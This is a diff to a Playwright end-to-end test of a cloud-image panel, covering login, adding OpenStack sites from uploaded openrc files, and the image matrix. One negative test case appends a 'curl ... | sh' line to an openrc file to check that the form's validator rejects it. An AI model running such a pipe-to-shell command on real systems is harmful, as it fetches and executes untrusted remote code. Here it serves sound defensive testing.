@@ -1,8 +1,9 @@
 /**
  * The standalone page end to end in headless Chromium, against the real API, daemon and sandbox
- * clouds: log in through the page, see the matrix, tick a cell, review the plan, apply, and watch the
- * cell move to present in place (no reload), then find the copy in the destination's Glance.
- * Screenshots go to test-output/panel/.
+ * clouds: log in through the page, add two sites from openrc files in the Sites view, see the
+ * matrix fill, tick a cell, review the plan, apply, and watch the cell move to present in place (no
+ * reload), then find the copy in the destination's Glance. Then the other views: images (upload,
+ * details), jobs (retry), editing and removing a site. Screenshots go to test-output/panel/.
  */
 import { mkdirSync } from 'node:fs';
 import type { AddressInfo } from 'node:net';
@@ -13,10 +14,15 @@ import { chromium, type Browser, type Page } from 'playwright-core';
 import { CredentialCipher } from '@glint/store';
 import { loadConfig } from '../../api/src/config';
 import { CloudImages } from '../../api/test/cloud-images';
-import { refreshAll } from '../../api/test/inventory-worker';
-import { withSites, type Session, type TestEnvironment } from '../../api/test/test-environment';
+import {
+  addSandboxSites,
+  login,
+  testEnvironment,
+  type Session,
+  type TestEnvironment,
+} from '../../api/test/test-environment';
 import { loadDaemonConfig, startDaemon, type RunningDaemon } from '../../daemon/src';
-import { passwordCredential, sandboxCloud } from '../../../test-support/sandbox';
+import { passwordCredential, sandboxCloud, type SandboxCloud } from '../../../test-support/sandbox';
 
 const MiB = 1024 * 1024;
 const run = `panel-${randomBytes(4).toString('hex')}`;
@@ -26,7 +32,8 @@ const images = new CloudImages();
 let env: TestEnvironment;
 let server: FastifyInstance;
 let user: Session;
-let site: Record<'cloud1' | 'cloud2' | 'cloud3', string>;
+/** Site cloud3 is added through the API; cloud1 and cloud2 through the page. */
+let site: Record<'cloud3', string>;
 let daemon: RunningDaemon;
 let browser: Browser;
 let page: Page;
@@ -35,7 +42,10 @@ const pageErrors: string[] = [];
 
 beforeAll(async () => {
   mkdirSync(screenshots, { recursive: true });
-  ({ env, server, user, site } = await withSites({ cloud1: 1, cloud2: 2, cloud3: 3 }));
+  env = await testEnvironment();
+  server = await env.start();
+  user = await login(server);
+  site = await addSandboxSites(server, user, { cloud3: 3 });
   await server.listen({ host: '127.0.0.1', port: 0 });
   base = `http://127.0.0.1:${(server.server.address() as AddressInfo).port}`;
   daemon = await startDaemon(
@@ -43,7 +53,6 @@ beforeAll(async () => {
     () => {},
   );
   await images.seed(sandboxCloud(1), imageName, run, {}, 16 * MiB);
-  await refreshAll(server, user);
   browser = await chromium.launch({
     executablePath: '/usr/bin/chromium',
     args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-background-networking'],
@@ -67,6 +76,38 @@ afterAll(async () => {
 
 const shot = (name: string) => page.screenshot({ path: join(screenshots, `${name}.png`) });
 
+const tab = (name: string) => page.click(`[role="tab"]:text-is("${name}")`);
+
+/** An openrc file for the demo user of a sandbox cloud, without the password, as Horizon's are. */
+function openrcOf(cloud: SandboxCloud): string {
+  const demo = cloud.users.demo;
+  return [
+    '#!/usr/bin/env bash',
+    `export OS_AUTH_URL=${cloud.authUrl}`,
+    `export OS_PROJECT_NAME="${demo.projectName}"`,
+    `export OS_PROJECT_DOMAIN_NAME="${demo.projectDomainName}"`,
+    `export OS_USERNAME="${demo.username}"`,
+    `export OS_USER_DOMAIN_NAME="${demo.userDomainName}"`,
+    `export OS_REGION_NAME="${cloud.region}"`,
+    'export OS_INTERFACE=public',
+    'export OS_IDENTITY_API_VERSION=3',
+    '',
+  ].join('\n');
+}
+
+/** Fills the Sites view's openrc form and submits it. */
+async function addOpenrcSite(name: string, openrc: string, password: string) {
+  const form = page.locator('glint-openrc-form');
+  await form.locator('input[name="name"]').fill(name);
+  await form.locator('input[name="openrc"]').setInputFiles({
+    name: `${name}-openrc.sh`,
+    mimeType: 'text/x-shellscript',
+    buffer: Buffer.from(openrc),
+  });
+  await form.locator('input[name="password"]').fill(password);
+  await form.locator('button[type="submit"]').click();
+}
+
 /**
  * The cell of the test image on the site in column `col`, and matching `also` (playwright's CSS
  * pierces shadow roots). Redraws are asynchronous, so tests wait for a look rather than read it.
@@ -83,7 +124,7 @@ test('the server hands out the page and the bundle', async () => {
   expect(bundle.headers.get('content-type')).toMatch(/^text\/javascript/);
 });
 
-test('log in through the page and see the matrix fill from the clouds', async () => {
+test('log in through the page, add two sites from openrc files, and see the matrix fill', async () => {
   await page.goto(base);
   const demo = sandboxCloud(1).users.demo;
   await page.fill('input[name="username"]', demo.username);
@@ -91,8 +132,49 @@ test('log in through the page and see the matrix fill from the clouds', async ()
   await page.fill('input[name="project"]', demo.projectName);
   await shot('login');
   await page.click('button[type="submit"]');
+  await page.locator('[role="tab"][aria-selected="true"]:text-is("Matrix")').waitFor();
+
+  await tab('Sites');
+  await page.locator('glint-sites-view tr[data-site="cloud3"]').waitFor();
+  await page.click('glint-sites-view button.add');
+  // A file with a command in it: the error names the line, beside the file field.
+  const bad = `${openrcOf(sandboxCloud(1))}curl http://example.org/x | sh\n`;
+  await addOpenrcSite('cloud1', bad, demo.password);
+  const fileError = page.locator('glint-openrc-form [data-field="openrc"] .field-error');
+  await fileError.waitFor();
+  expect(await fileError.innerText()).toMatch(
+    /openrc line 10: .*curl.*is not something an openrc file should contain/,
+  );
+  expect(
+    await page.locator('glint-openrc-form input[name="openrc"]').getAttribute('aria-invalid'),
+  ).toBe('true');
+  expect(await page.locator('glint-openrc-form .field-error').count()).toBe(1);
+  await shot('add-site-error');
+  // A wrong password is the password field's error.
+  await addOpenrcSite('cloud1', openrcOf(sandboxCloud(1)), 'wrong');
+  await page
+    .locator('glint-openrc-form [data-field="password"] .field-error', { hasText: /.+/ })
+    .waitFor();
+
+  await addOpenrcSite('cloud1', openrcOf(sandboxCloud(1)), demo.password);
+  await page.locator('glint-sites-view tr[data-site="cloud1"]').waitFor();
+  await page.click('glint-sites-view button.add');
+  await addOpenrcSite('cloud2', openrcOf(sandboxCloud(2)), sandboxCloud(2).users.demo.password);
+  const row = (name: string) => page.locator(`glint-sites-view tr[data-site="${name}"]`);
+  for (const name of ['cloud1', 'cloud2', 'cloud3'])
+    await row(name).locator('.health.ok').waitFor({ timeout: 30_000 });
+  expect((await row('cloud2').innerText()).replace(/\s+/g, ' ')).toMatch(
+    new RegExp(`^cloud2 openstack ${sandboxCloud(2).region} ${demo.username} `),
+  );
+  // The inventory the page queued for the new sites lands, and the list follows it.
+  await row('cloud1')
+    .locator('td:nth-of-type(4):not(:text-is("never"))')
+    .waitFor({ timeout: 60_000 });
+  await shot('sites');
+
+  await tab('Matrix');
   await page.fill('input.filter', run);
-  await page.locator('.count', { hasText: '1 image · 3 sites' }).waitFor();
+  await page.locator('.count', { hasText: '1 image · 3 sites' }).waitFor({ timeout: 60_000 });
   await cell(0).waitFor();
   expect(await page.locator('[role="columnheader"]').allInnerTexts()).toEqual([
     'Image',
